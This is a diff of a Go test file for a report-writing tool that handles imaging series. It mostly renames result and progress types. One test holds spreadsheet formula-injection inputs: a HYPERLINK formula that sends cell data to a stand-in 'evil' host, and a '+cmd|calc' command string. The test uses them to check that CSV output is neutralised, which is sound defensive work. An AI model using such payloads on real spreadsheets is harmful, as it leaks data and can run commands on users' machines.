@@ -18,10 +18,12 @@ import (
 )
 
 func TestReportOrder(t *testing.T) {
-	done := func(unit, verdict string) Result { return Result{ID: unit, Unit: unit, State: Done, Verdict: verdict} }
+	done := func(unit, verdict string) SeriesResult {
+		return SeriesResult{ID: unit, Unit: unit, State: Done, Verdict: verdict}
+	}
 	warned := done("warned", "matched")
 	warned.Warnings = []string{"Gaps."}
-	all := []Result{
+	all := []SeriesResult{
 		{Unit: "copy", State: Duplicate}, done("good", "matched"), done("clean", "clean"), warned, done("unsure", "unknown"), done("under", "under"), done("over", "over"),
 		{Unit: "z", State: Failed}, {Unit: "y", Series: "2", State: Failed}, {Unit: "y", Series: "1", State: Failed},
 	}
@@ -71,9 +73,9 @@ func TestReports(t *testing.T) {
 func TestTheTableIsNoProgram(t *testing.T) {
 	c := newCohort(t)
 	formulas := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+cmd|calc", "@SUM(1)", "-1+1"}
-	var all []Result
+	var all []SeriesResult
 	for i, text := range formulas {
-		all = append(all, Result{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Verdict: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
+		all = append(all, SeriesResult{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Verdict: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
 	}
 	path := filepath.Join(t.TempDir(), "report.csv")
 	c.must(writeCSV(path, summaryOf(all...).results))
@@ -96,10 +98,10 @@ func TestTheTableIsNoProgram(t *testing.T) {
 
 func TestSigmaIsSilentWithoutAnEstimate(t *testing.T) {
 	for _, x := range []struct {
-		r    Result
+		r    SeriesResult
 		want string
 	}{
-		{Result{State: Done, Sigma: 1.23456, SigmaConfidence: "low"}, "1.235"}, {Result{State: Done, Sigma: 3, SigmaConfidence: "none"}, ""}, {Result{State: Failed, Sigma: 3}, ""},
+		{SeriesResult{State: Done, Sigma: 1.23456, SigmaConfidence: "low"}, "1.235"}, {SeriesResult{State: Done, Sigma: 3, SigmaConfidence: "none"}, ""}, {SeriesResult{State: Failed, Sigma: 3}, ""},
 	} {
 		if got := sigmaText(x.r); got != x.want {
 			t.Errorf("%+v: %q", x.r, got)
@@ -111,8 +113,8 @@ func TestSigmaIsSilentWithoutAnEstimate(t *testing.T) {
 // that were there before.
 func TestProgress(t *testing.T) {
 	now := time.Unix(0, 0)
-	var last Status
-	p := progress{events: Events{Status: func(s Status) { last = s }}, now: func() time.Time { return now }}
+	var last Progress
+	p := meter{events: Events{Progress: func(s Progress) { last = s }}, now: func() time.Time { return now }}
 	a, b, c := Unit{Name: "a", Bytes: 100}, Unit{Name: "b", Bytes: 200}, Unit{Name: "c", Bytes: 100}
 	p.begin([]Unit{a, b, c})
 	step := func(what string, seconds int64, do func(), share float64, left time.Duration) {
@@ -130,15 +132,15 @@ func TestProgress(t *testing.T) {
 	step("its unit", 20, func() { p.unit(b) }, 0.75, 10*time.Second)
 	step("an unselected unit", 21, func() { p.unit(c) }, 1, 0)
 	p.unselected()
-	for _, r := range []Result{{ID: "1", State: Done}, {ID: "2", State: Done, Reused: true}, {ID: "3", State: Failed}, {ID: "4", State: Duplicate, Picture: []byte{1}}} {
+	for _, r := range []SeriesResult{{ID: "1", State: Done}, {ID: "2", State: Done, Reused: true}, {ID: "3", State: Failed}, {ID: "4", State: Duplicate, Picture: []byte{1}}} {
 		p.result(r, r.State != Failed)
 	}
 	equal(t, "counts", []int{last.Done, last.Reused, last.Failed, last.Duplicates, last.Unselected}, []int{2, 1, 1, 1, 1})
-	p.result(Result{ID: "3", State: Done}, true) // a unit that was delivered again
-	p.result(Result{ID: "2", State: Failed, Picture: []byte{1}}, false)
+	p.result(SeriesResult{ID: "3", State: Done}, true) // a unit that was delivered again
+	p.result(SeriesResult{ID: "2", State: Failed, Picture: []byte{1}}, false)
 	equal(t, "counts again", []int{last.Done, last.Reused, last.Failed, last.Duplicates}, []int{2, 0, 1, 1})
 	p.left(Left{Units: 1}, 4) // of units that others do; results do not change the share
-	p.result(Result{ID: "5", State: Done}, true)
+	p.result(SeriesResult{ID: "5", State: Done}, true)
 	equal(t, "share", last.Share, 0.75)
 	if r, ok := p.unsaved["2"]; len(p.rows) != 5 || len(p.unsaved) != 1 || !ok || r.Picture != nil {
 		t.Errorf("%v, not in the store: %v", p.rows, p.unsaved)
@@ -149,7 +151,7 @@ func TestEveryEventIsOptional(t *testing.T) {
 	c := newCohort(t)
 	c.nii("a.nii", 1)
 	var got []string
-	_, err := Run(t.Context(), c.options(), Events{Result: func(r Result) { got = append(got, r.Unit+" "+string(r.State)) }, Status: func(s Status) { got = append(got, "status") }})
+	_, err := Run(t.Context(), c.options(), Events{Result: func(r SeriesResult) { got = append(got, r.Unit+" "+string(r.State)) }, Progress: func(s Progress) { got = append(got, "status") }})
 	c.must(err)
 	if !slices.Contains(got, "a.nii done") || !slices.Contains(got, "status") {
 		t.Errorf("%v", got)
@@ -171,9 +173,9 @@ func TestReportHasPages(t *testing.T) {
 		return string(data)
 	}
 	for _, x := range []struct{ series, pages int }{{2*pageRows + 1, 3}, {2 * pageRows, 2}, {pageRows, 1}, {0, 1}} {
-		var all []Result
+		var all []SeriesResult
 		for i := range x.series {
-			r := Result{Unit: fmt.Sprintf("s%04d.nii", i), State: Done, Verdict: "matched", Picture: []byte{1}}
+			r := SeriesResult{Unit: fmt.Sprintf("s%04d.nii", i), State: Done, Verdict: "matched", Picture: []byte{1}}
 			if i%100 == 99 {
 				r.State, r.Problem = Failed, "cut off"
 			}
@@ -215,9 +217,9 @@ func TestReportHasPages(t *testing.T) {
 // TestSummaryAsJSON has the counts and the results, one by one.
 func TestSummaryAsJSON(t *testing.T) {
 	for _, n := range []int{0, 1, 3} {
-		var all []Result
+		var all []SeriesResult
 		for i := range n {
-			all = append(all, Result{Unit: fmt.Sprint("s", i), State: Done, Picture: []byte{1}})
+			all = append(all, SeriesResult{Unit: fmt.Sprint("s", i), State: Done, Picture: []byte{1}})
 		}
 		s := summaryOf(all...)
 		s.Done, s.Output = n, "out"
@@ -228,7 +230,7 @@ func TestSummaryAsJSON(t *testing.T) {
 		var back struct {
 			Done    int
 			Output  string
-			Results []Result
+			Results []SeriesResult
 		}
 		if err := json.Unmarshal([]byte(text.String()), &back); err != nil || back.Done != n || back.Output != "out" || back.Results == nil {
 			t.Fatalf("%v, %+v\n%s", err, back, text.String())
@@ -243,7 +245,7 @@ func TestSummaryAsJSON(t *testing.T) {
 // TestMemoryOfAResult: what stays in memory of a series is some hundred bytes, whatever its picture
 // and its sentences take.
 func TestMemoryOfAResult(t *testing.T) {
-	p := progress{now: time.Now}
+	p := meter{now: time.Now}
 	p.begin(nil)
 	const n = 2000
 	heap := func() int64 {
@@ -254,7 +256,7 @@ func TestMemoryOfAResult(t *testing.T) {
 	}
 	before := heap()
 	for i := range n {
-		p.result(Result{ID: fmt.Sprintf("%016d", i), Unit: fmt.Sprintf("p%04d/s.nii", i), State: Done, Picture: make([]byte, 12000), Why: strings.Repeat("w", 1000)}, true)
+		p.result(SeriesResult{ID: fmt.Sprintf("%016d", i), Unit: fmt.Sprintf("p%04d/s.nii", i), State: Done, Picture: make([]byte, 12000), Why: strings.Repeat("w", 1000)}, true)
 	}
 	if each := (heap() - before) / n; each > 500 {
 		t.Errorf("%d bytes of each", each)
